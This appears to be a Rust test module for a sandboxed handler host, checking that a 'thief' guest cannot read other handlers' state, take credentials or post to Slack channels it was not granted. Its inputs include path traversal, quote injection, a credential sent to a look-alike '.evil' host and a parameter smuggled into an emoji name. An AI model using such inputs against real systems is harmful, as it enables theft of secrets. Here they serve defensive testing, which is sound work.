//! Guests that try to read or change the state of other handlers, of the operator or of the host.

use super::case::{Case, guest, script};
use super::world::OWNERS_OWN;

pub(crate) fn cases() -> Vec<Case> {
    [surroundings(), state(), credentials(), slack()]
        .into_iter()
        .flatten()
        .collect()
}

fn surroundings() -> Vec<Case> {
    vec![
        guest("a-look-around", "surroundings").tells([
            "\"args\":\"0\"",
            "\"vars\":\"0\"",
            "\"files\":\"false\"",
            "\"write\":\"false\"",
            "\"socket\":\"false\"",
            "\"stdin\":\"\"",
        ]),
        guest("sockets-of-its-own", "sockets").tells(["false false false"]),
        guest("everything-without-a-grant", "denied")
            .allows("http: []")
            .tells(["Denied", "slack: [secret]", "TooLarge(512)", "NotFound"])
            .hides("Ok("),
        guest("a-fact-in-the-hosts-name", "host-fact")
            .in_enrich()
            .tells(["names that begin with enrich_failed. are the host's"])
            .hides("forged"),
        guest("a-fact-of-the-hosts-that-an-actor-returns", "host-fact").hides("forged"),
    ]
}

fn state() -> Vec<Case> {
    let steals = |name, key: &str| {
        script(name, format!("value {key}"))
            .on("a-thief")
            .tells(["Ok(None)"])
            .hides(OWNERS_OWN)
    };
    vec![
        steals("state-of-another", "secret"),
        steals("state-by-its-owners-name", "owner/secret"),
        steals("state-by-a-path", "../owner/secret"),
        steals("state-by-a-colon", "owner:secret"),
        steals("state-by-a-pattern", "%"),
        steals("state-by-a-quote", "secret'--"),
        script(
            "state-overwritten",
            "set secret mine\nremove secret\nvalue secret",
        )
        .tells(["Ok(None)"])
        .hides(OWNERS_OWN),
        script(
            "settings-of-another",
            "config channel\nconfig ../owner/channel\nconfig SLACK_TOKEN",
        )
        .tells(["None"]),
    ]
}

fn credentials() -> Vec<Case> {
    let guesses = |name, credential: &str| {
        script(
            name,
            format!("credential {credential} {{sink}}/with-{credential}"),
        )
        .on("a-thief")
        .tells(["Denied", "credentials: ["])
        .hides("200 ")
    };
    vec![
        guesses("a-credential-that-exists", "vault"),
        guesses("a-credential-by-guess", "kubernetes"),
        guesses("a-credential-of-slack", "slack"),
        guesses("a-credential-in-capitals", "GITHUB"),
        guesses("a-credential-by-a-path", "../github"),
        script(
            "a-credential-to-another-origin",
            "credential github {wire}/stolen",
        )
        .tells(["Denied", "origins"])
        .hides("200 "),
        // Granted, and to its own origin: it goes, and neither guest nor story see it.
        script(
            "a-credential-that-is-repeated",
            "credential mirror {wire}/mirror",
        )
        .tells(["authorization: Bearer [credential]"]),
        script(
            "a-credential-to-a-name-like-its-own",
            "credential github http://{sink_host}.evil/",
        )
        .tells(["InvalidRequest"])
        .hides("200 "),
    ]
}

fn slack() -> Vec<Case> {
    let lost = |name, lines: &str| {
        script(name, lines.to_owned())
            .on("a-thief")
            .tells(["NotFound"])
            .hides("posted")
    };
    let denied = |name, channel: &str| {
        script(name, format!("slack {channel} hello"))
            .on("a-thief")
            .tells(["Denied", "slack: ["])
            .hides("\"posted\"")
    };
    let refused = |name, blocks: &str, told: &'static str| {
        script(name, format!("blocks alerts {blocks}"))
            .on("a-thief")
            .tells([told])
    };
    vec![
        denied("a-channel-not-granted", "oncall"),
        denied("a-channel-by-its-own-name", "#oncall"),
        denied("a-channel-by-its-id", "C0000001"),
        denied("a-person", "@everyone"),
        lost(
            "a-reference-made-up",
            "ref YWxlcnRz.c2lnbmF0dXJl\nupdate changed\nthread alerts x\nreact eyes",
        ),
        lost(
            "a-reference-of-another",
            "ref {reference}\nupdate changed\nthread alerts x\nreact eyes",
        ),
        script(
            "a-reference-of-another-to-its-channel",
            "ref {reference}\nthread oncall x",
        )
        .on("a-thief")
        .tells(["Denied", "slack: [alerts, oncall]"])
        .hides("posted"),
        lost(
            "a-reference-that-is-slacks-own",
            "ref C0000001.1700000000.000100\nreact eyes",
        ),
        lost("a-reference-with-a-tail", "ref {reference}AAAA\nreact eyes"),
        script("slack-during-enrich", "slack alerts hello")
            .in_enrich()
            .tells(["Denied", "during enrich"])
            .hides("\"posted\""),
        refused(
            "blocks-that-slack-refuses",
            r#"[{"type":"nonsense"}]"#,
            "invalid_blocks",
        ),
        refused("blocks-that-are-no-json", "[{", "blocks: not JSON"),
        refused("blocks-that-are-no-list", "{}", "blocks: not an array"),
        refused(
            "blocks-without-number",
            &format!("[{}]", vec![r#"{"type":"divider"}"#; 60].join(",")),
            "invalid_blocks",
        ),
        guest("blocks-as-deep-as-a-well", "slack-deep-blocks").tells(["blocks: not JSON"]),
        guest("a-message-of-a-megabyte", "slack-megabyte")
            .within("cpu: 5s, wall: 40s")
            .tells(["\"text\":"]),
        script(
            "an-emoji-that-is-a-request",
            "slack alerts x\nreact a:b&channel=C0000001",
        )
        .tells(["emoji: its name"]),
    ]
}
